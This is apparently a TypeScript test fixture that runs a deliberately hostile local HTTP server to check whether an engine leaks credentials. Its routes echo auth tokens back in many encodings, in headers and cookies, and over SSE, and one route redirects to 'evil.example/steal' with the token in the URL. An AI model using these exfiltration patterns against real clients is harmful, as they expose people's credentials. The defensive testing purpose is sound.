import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { ENCODINGS, upper } from './escapes.js';

/** What the upstream saw of one request. */
export interface SeenRequest {
  readonly method: string;
  readonly url: string;
  readonly headers: Record<string, string | string[] | undefined>;
  readonly rawHeaders: string[];
  readonly body: Buffer;
}

/** A running upstream on 127.0.0.1. */
export interface Upstream {
  readonly port: number;
  readonly origin: string;
  /** Every request received, in order. */
  readonly requests: SeenRequest[];
  close(): Promise<void>;
}

/** Everything the request carried, as one text: request line, headers, body. */
function dump(req: SeenRequest): string {
  const headers: string[] = [];
  for (let i = 0; i + 1 < req.rawHeaders.length; i += 2)
    headers.push(`${req.rawHeaders[i]}: ${req.rawHeaders[i + 1]}`);
  return `${req.method} ${req.url}\n${headers.join('\n')}\n\n${req.body.toString('utf8')}`;
}

/** The request echoed back in every form a careless or hostile service might use, nested ones included. */
export function echoAllForms(req: SeenRequest): string {
  const text = dump(req);
  const bytes = Buffer.from(text, 'utf8');
  const latin1 = bytes.toString('latin1');
  const encode = (value: string, ...names: string[]) =>
    names.reduce((t, name) => ENCODINGS.find((e) => e.name === name)!.encode(t) ?? t, value);
  const parts = [
    `raw:${text}`,
    `upper:${upper(text)}`,
    `json:${JSON.stringify({ echo: text })}`,
    // httpbin and postman-echo put a JSON body as a string inside their JSON answer
    `json-in-json:${JSON.stringify({ data: JSON.stringify({ echo: text }) })}`,
    `url:${encodeURIComponent(text)}`,
    `url-twice:${encode(latin1, 'form', 'form')}`,
    `u-all:${encode(latin1, 'json-u-all')}`,
    `html:${encode(latin1, 'html', 'html')}`,
    `mime:${encode(latin1, 'b64-mime')}`,
    `b64-of-json:${encode(latin1, 'json', 'b64')}`,
    `hex:${bytes.toString('hex')}`,
    `HEX:${bytes.toString('hex').toUpperCase()}`,
  ];
  for (let offset = 0; offset < 3; offset += 1) {
    const shifted = Buffer.concat([Buffer.from('xyz'.slice(0, offset)), bytes]);
    parts.push(
      `b64@${offset}:${shifted.toString('base64')}`,
      `b64url@${offset}:${shifted.toString('base64url')}`,
    );
  }
  return parts.join('\n');
}

function authOf(req: SeenRequest): string {
  const auth = req.headers.authorization;
  const raw = typeof auth === 'string' ? auth.replace(/^(Bearer|Basic) /, '') : '';
  const apiKey = req.headers['x-api-key'];
  return (
    raw ||
    (typeof apiKey === 'string' ? apiKey : '') ||
    new URL(req.url, 'http://x').searchParams.get('api_key') ||
    req.body.toString('utf8')
  );
}

type Route = (req: SeenRequest, res: ServerResponse, socket: Socket) => void;

/**
 * Routes of the hostile upstream. Each one tries a different way to send a credential back or to make the engine
 * fail in a way that could leak it.
 */
const ROUTES: Record<string, Route> = {
  '/echo': (req, res) => {
    res.writeHead(200, { 'content-type': 'text/plain' });
    res.end(echoAllForms(req));
  },
  '/echo-json': (req, res) => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(
      JSON.stringify({
        method: req.method,
        url: req.url,
        headers: req.headers,
        body: req.body.toString('utf8'),
      }),
    );
  },
  '/echo-headers': (req, res) => {
    const secret = authOf(req);
    res.writeHead(200, {
      'x-echo': secret,
      'set-cookie': [`session=${secret}; Path=/`, `b64=${Buffer.from(secret).toString('base64')}`],
      'x-echo-url': encodeURIComponent(secret),
      'content-type': 'text/plain',
    });
    res.end('headers echoed');
  },
  '/redirect': (req, res) => {
    const secret = authOf(req);
    res.writeHead(302, { location: `https://evil.example/steal?token=${encodeURIComponent(secret)}` });
    res.end();
  },
  '/redirect-same': (_req, res) => {
    res.writeHead(302, { location: '/echo' });
    res.end();
  },
  '/gzip': (req, res) => {
    res.writeHead(200, { 'content-encoding': 'gzip', 'content-type': 'text/plain' });
    res.end(gzipSync(echoAllForms(req)));
  },
  '/deflate': (req, res) => {
    res.writeHead(200, { 'content-encoding': 'deflate', 'content-type': 'text/plain' });
    res.end(deflateSync(echoAllForms(req)));
  },
  '/br': (req, res) => {
    res.writeHead(200, { 'content-encoding': 'br', 'content-type': 'text/plain' });
    res.end(brotliCompressSync(echoAllForms(req)));
  },
  '/gzip-gzip': (req, res) => {
    res.writeHead(200, { 'content-encoding': 'gzip, gzip', 'content-type': 'text/plain' });
    res.end(gzipSync(gzipSync(echoAllForms(req))));
  },
  '/gzip-chunked': (req, res) => {
    // A transfer coding: undici undoes `chunked` and hands over the gzip bytes.
    res.writeHead(200, { 'transfer-encoding': 'gzip, chunked', 'content-type': 'text/plain' });
    const body = gzipSync(echoAllForms(req));
    res.write(body.subarray(0, 10));
    res.end(body.subarray(10));
  },
  '/echo-header-name': (req, res) => {
    // The credential as a header name (a name can only hold token characters: else its base64url form).
    const secret = authOf(req);
    const name = /^[A-Za-z0-9!#$%&'*+.^_`|~-]+$/.test(secret)
      ? secret
      : Buffer.from(secret).toString('base64url');
    res.writeHead(200, { [`x-${name}`]: '1', 'content-type': 'text/plain' });
    res.end('header name echoed');
  },
  '/echo-then-pause': (req, res, socket) => {
    // `<<` and the text of ?guess=, then a pause of ?ms= (default 300), then the end or (?then=drop) a reset: what
    // a reader has during the pause must not tell whether the guess begins a secret.
    const q = new URL(req.url, 'http://x').searchParams;
    res.writeHead(200, { 'content-type': 'text/plain' });
    res.write(`<<${q.get('guess') ?? ''}`);
    setTimeout(() => (q.get('then') === 'drop' ? socket.destroy() : res.end()), Number(q.get('ms') ?? 300));
  },
  '/unknown-encoding': (req, res) => {
    res.writeHead(200, { 'content-encoding': 'x-private-coding', 'content-type': 'text/plain' });
    res.end(echoAllForms(req));
  },
  '/drip': (req, res) => {
    // One byte at a time: the request raw, as JSON, url-encoded and in base64 (every form would take seconds).
    const text = dump(req);
    const b64 = Buffer.from(`x${text}`).toString('base64');
    const data = Buffer.from(
      `raw:${text}\njson:${JSON.stringify({ echo: text })}\nurl:${encodeURIComponent(text)}\nb64@1:${b64}`,
      'utf8',
    );
    res.writeHead(200, { 'content-type': 'text/plain' });
    let i = 0;
    const next = () => {
      if (i >= data.length) {
        res.end();
        return;
      }
      res.write(data.subarray(i, i + 1));
      i += 1;
      setImmediate(next);
    };
    next();
  },
  '/sse': (req, res) => {
    res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
    const secret = authOf(req);
    res.write('event: greeting\ndata: hello\n\n');
    setTimeout(() => {
      res.write(`event: leak\ndata: ${secret}\n\n`);
      setTimeout(() => res.end('event: bye\ndata: done\n\n'), 20);
    }, 20);
  },
  '/reset': (req, res, socket) => {
    res.writeHead(200, { 'content-type': 'text/plain', 'content-length': '100000' });
    res.write(`partial ${authOf(req)} `);
    setTimeout(() => socket.destroy(), 20);
  },
  '/reset-before-headers': (_req, _res, socket) => {
    socket.destroy();
  },
  '/hang': () => {
    // Never answers.
  },
  '/hang-body': (_req, res) => {
    res.writeHead(200, { 'content-type': 'text/plain' });
    res.write('first part, then silence');
  },
  '/big': (req, res) => {
    const mb = Number(new URL(req.url, 'http://x').searchParams.get('mb') ?? '1');
    const chunk = Buffer.alloc(64 * 1024, 'abcdefghijklmnopqrstuvwxyz0123456789\n');
    res.writeHead(200, { 'content-type': 'application/octet-stream' });
    let left = Math.round(mb * 16);
    const write = () => {
      while (left > 0) {
        left -= 1;
        if (!res.write(chunk)) {
          res.once('drain', write);
          return;
        }
      }
      res.end();
    };
    write();
  },
  '/status': (req, res) => {
    const code = Number(new URL(req.url, 'http://x').searchParams.get('code') ?? '200');
    res.writeHead(code, { 'content-type': 'text/plain' });
    res.end(`status ${code}`);
  },
};

/**
 * Starts the hostile upstream on 127.0.0.1 (a random port). Paths: /echo (the request raw, upper-cased, JSON, JSON
 * in JSON, url-encoded once and twice, `\u`-escaped, HTML-escaped twice, MIME base64, base64 of JSON, hex and base64
 * at three offsets), /echo-json, /echo-headers (credential in x-echo, Set-Cookie), /echo-header-name (credential as a
 * header name), /echo-then-pause?guess=&then=drop (the oracle probe), /redirect (302 to another origin carrying the
 * credential), /redirect-same, /gzip, /gzip-gzip, /gzip-chunked (a gzip transfer coding), /deflate, /br, /unknown-encoding, /drip
 * (one byte at a time), /sse, /reset (mid-body), /reset-before-headers, /hang (never answers), /hang-body, /big?mb=N,
 * /status?code=N. Anything else is 404.
 */
export async function startUpstream(): Promise<Upstream> {
  const requests: SeenRequest[] = [];
  const sockets = new Set<Socket>();
  const server: Server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const seen: SeenRequest = {
        method: req.method ?? 'GET',
        url: req.url ?? '/',
        headers: req.headers,
        rawHeaders: req.rawHeaders,
        body: Buffer.concat(chunks),
      };
      requests.push(seen);
      const route = ROUTES[new URL(seen.url, 'http://x').pathname];
      if (route === undefined) {
        res.writeHead(404, { 'content-type': 'text/plain' });
        res.end('not found');
        return;
      }
      route(seen, res, req.socket);
    });
  });
  server.on('connection', (s: Socket) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    port,
    origin: `http://127.0.0.1:${port}`,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      }),
  };
}
